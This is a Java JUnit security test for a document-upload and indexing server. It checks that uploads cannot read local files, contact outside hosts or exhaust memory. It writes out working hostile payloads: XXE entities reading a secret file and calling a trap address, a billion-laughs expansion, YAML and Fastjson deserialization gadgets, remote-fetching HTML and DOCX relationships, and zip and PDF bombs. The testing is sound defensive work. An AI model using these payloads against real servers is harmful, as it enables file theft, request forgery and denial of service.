package io.temponest.cli;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import com.fasterxml.jackson.databind.JsonNode;
import io.temponest.cli.ApiCaller.Answer;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.Map;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Documents that are made to read other files, to call somebody, or to fill the memory of a server, which here has little. */
class HostileUploadTest {

    private static final String SECRET = "the-secret-of-the-lighthouse";

    @TempDir
    private static Path folder;

    private static Trap trap;
    private static TestServer server;
    private static String collection;
    private static String secret;

    @BeforeAll
    static void start() throws IOException {
        trap = Trap.set();
        server = TestServer.start(folder.resolve("data"), Map.of("JAVA_TOOL_OPTIONS", "-Xmx640m"));
        collection = server.admin()
                .post("/v1/collections", Map.of("name", "hostile"))
                .json()
                .path("id")
                .asText();
        secret = Files.writeString(folder.resolve("secret.txt"), SECRET).toUri().toString();
    }

    @AfterAll
    static void stop() {
        server.close();
        trap.close();
    }

    private static String documents() {
        return "/v1/collections/" + collection + "/documents";
    }

    /** A document, when it is known what becomes of it. */
    private static JsonNode settled(String name, byte[] content) {
        Answer uploaded = server.admin().upload(documents(), name, content);
        assertThat(uploaded.status()).as(uploaded.text()).isEqualTo(202);
        String path = documents() + "/" + uploaded.json().at("/data/0/id").asText();
        return await().atMost(Duration.ofSeconds(60))
                .until(
                        () -> server.admin().get(path).json(),
                        document -> !document.path("status").asText().matches("queued|indexing"));
    }

    private static JsonNode settled(String name, String content) {
        return settled(name, content.getBytes(StandardCharsets.UTF_8));
    }

    private static void indexed(JsonNode document) {
        assertThat(document.path("status").asText()).as(document.toString()).isEqualTo("indexed");
        String found = server.admin()
                .post("/v1/collections/" + collection + "/search", Map.of("query", SECRET, "top_k", 50))
                .text();
        assertThat(found).contains(document.path("id").asText()).doesNotContain(SECRET);
        assertThat(trap.caught()).isZero();
    }

    private static void failed(JsonNode document, String message) {
        assertThat(document.path("status").asText()).as(document.toString()).isEqualTo("failed");
        assertThat(document.at("/error/type").asText()).isEqualTo("unprocessable_error");
        assertThat(document.at("/error/code").asText()).isEqualTo("document_unreadable");
        assertThat(document.at("/error/message").asText()).isEqualTo(message);
        assertThat(trap.caught()).isZero();
    }

    private static String doctype() {
        return "<!DOCTYPE d [<!ENTITY file SYSTEM \"%s\"><!ENTITY call SYSTEM \"http://%s/e\"><!ENTITY %% dtd SYSTEM \"http://%s/d\"> %%dtd;]>"
                .formatted(secret, trap.address(), trap.address());
    }

    @Test
    void aPageFetchesNothingAndHasNoEntitiesOfItsOwn() {
        String page = doctype() + """
                <html xmlns:xi="http://www.w3.org/2001/XInclude"><head><base href="http://TRAP/"><link rel="stylesheet" href="a.css">
                <meta http-equiv="refresh" content="0;url=http://TRAP/m"><script src="http://TRAP/s"></script></head><body>
                <p>before &file; &call; after</p><xi:include href="SECRET" parse="text"/><img src="http://TRAP/i">
                <iframe src="SECRET"></iframe><object data="SECRET"></object><embed src="http://TRAP/o"><svg><image href="SECRET"/>
                </svg></body></html>""".replace("TRAP", trap.address()).replace("SECRET", secret);

        indexed(settled("page.html", page));
    }

    @ParameterizedTest
    @ValueSource(strings = {"data.xml", "data.svg.xml", "data.xsd", "data.yaml", "data.json"})
    void dataIsTextAndNothingInItIsFollowed(String name) {
        String laughs =
                "<!DOCTYPE l [<!ENTITY a \"lol\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;\">]>";
        indexed(settled(
                name,
                "<?xml version=\"1.0\"?>" + doctype() + laughs
                        + "<d>&file; &call; &c;</d>\n--- !!javax.script.ScriptEngineManager "
                        + "[!!java.net.URL [\"http://" + trap.address()
                        + "/\"]]\n{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\"}"));
    }

    @Test
    void aWordDocumentWithEntitiesIsDamaged() {
        failed(
                settled("xxe.docx", HostileFiles.docx(doctype(), "&file; &call;", Map.of())),
                "'xxe.docx' cannot be read: it is damaged.");
    }

    @Test
    void aWordDocumentFetchesNothingThatItRefersTo() {
        String relations = """
                <?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">\
                <Relationship Id="r1" TargetMode="External" Target="http://TRAP/t.dotm" Type="http://schemas.openxmlformats.org/\
                officeDocument/2006/relationships/attachedTemplate"/><Relationship Id="r2" TargetMode="External" Target="SECRET" \
                Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image"/></Relationships>""".replace("TRAP", trap.address()).replace("SECRET", secret);

        indexed(settled(
                "links.docx",
                HostileFiles.docx(
                        "", "The template is elsewhere.", Map.of("word/_rels/document.xml.rels", relations))));
    }

    @Test
    void aPdfFetchesNothingWhenItIsOpened() {
        indexed(settled("action.pdf", HostileFiles.pdf(trap.address(), 0, 1)));
    }

    @Test
    void aWordDocumentThatGrowsBeyondMeasureIsRefusedAndTheServerGoesOn() {
        byte[] bomb = HostileFiles.docxOf(200);
        assertThat(bomb).hasSizeLessThan(1 << 20);

        failed(settled("bomb.docx", bomb), "'bomb.docx' cannot be read: it is larger than 50 MiB when it is unpacked.");

        indexed(settled("after.txt", "The lamp still turns."));
    }

    /** In one page, and in many that share what they show. */
    @ParameterizedTest
    @ValueSource(ints = {1, 100})
    void aPdfThatGrowsBeyondMeasureIsRefusedAndTheServerGoesOn(int pages) {
        byte[] bomb = HostileFiles.pdf("bomb", 1_000 / pages, pages);
        assertThat(bomb).hasSizeLessThan(2 << 20);

        failed(settled("bomb.pdf", bomb), "'bomb.pdf' cannot be read: it is larger than 100 MiB when it is unpacked.");

        indexed(settled("after.txt", "The lamp still turns."));
    }
}
